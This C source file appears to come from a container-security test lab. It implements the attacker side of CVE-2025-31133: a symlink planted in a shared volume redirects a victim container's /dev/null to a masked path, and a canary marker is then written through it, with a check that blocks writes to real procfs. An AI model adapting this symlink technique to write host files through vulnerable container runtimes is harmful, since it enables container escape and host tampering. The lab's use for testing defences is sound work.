/*
 * CVE-2025-31133, the attacker's part, in two containers:
 *   attack prepare MASKED (the attacker's other container, the shared volume at /shared)
 *                         makes /shared/null a symlink to the masked path (/proc/kcore);
 *   attack write MASKED   (the victim container, whose /dev is that volume) writes the marker
 *                         through the masked path, which the runtime's "mask" left exposed.
 * Lab safety: the write goes ahead only when MASKED is not on procfs (it is the host-side stand-in
 * bind-mounted there); a real procfs file is never written.
 */
#define _GNU_SOURCE
#include "bwlab.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#ifndef PROC_SUPER_MAGIC
#define PROC_SUPER_MAGIC 0x9fa0
#endif

#define MARKER "BW-CANARY-CVE-2025-31133\n"

static int prepare(const char *masked) {
  char step[512];
  snprintf(step, sizeof step, "plant null -> %s in the volume shared as the victim's /dev", masked);
  if (symlink(masked, "/shared/null") != 0) {
    bw_step(step, 0, errno, "");
    return 1;
  }
  bw_step(step, 1, 0, "");
  return 0;
}

static int write_through(const char *path) {
  char step[512];
  snprintf(step, sizeof step, "write through the masked path %s", path);
  int fd = open(path, O_WRONLY | O_NOCTTY | O_CLOEXEC);
  if (fd < 0) {
    bw_step(step, 0, errno, "");
    return 1;
  }
  struct statfs sfs;
  struct stat st;
  if (fstatfs(fd, &sfs) != 0 || fstat(fd, &st) != 0) {
    bw_step(step, 0, errno, "fstat");
    close(fd);
    return 1;
  }
  if (sfs.f_type == PROC_SUPER_MAGIC) {
    close(fd);
    bw_step(step, 0, EPERM, "lab safety: it is a real procfs file, not written");
    return 2;
  }
  const char *what = S_ISCHR(st.st_mode) && st.st_rdev == makedev(1, 3) ? "the null device: the mask held"
                                                                        : "the host file: the mask failed";
  ssize_t w = write(fd, MARKER, strlen(MARKER));
  int e = errno;
  close(fd);
  if (w != (ssize_t)strlen(MARKER)) {
    bw_step(step, 0, w < 0 ? e : EIO, what);
    return 1;
  }
  bw_step(step, 1, 0, what);
  return 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc == 3 && strcmp(argv[1], "prepare") == 0) return prepare(argv[2]);
  if (argc == 3 && strcmp(argv[1], "write") == 0) return write_through(argv[2]);
  fprintf(stderr, "usage: attack prepare PATH | attack write PATH\n");
  return 2;
}
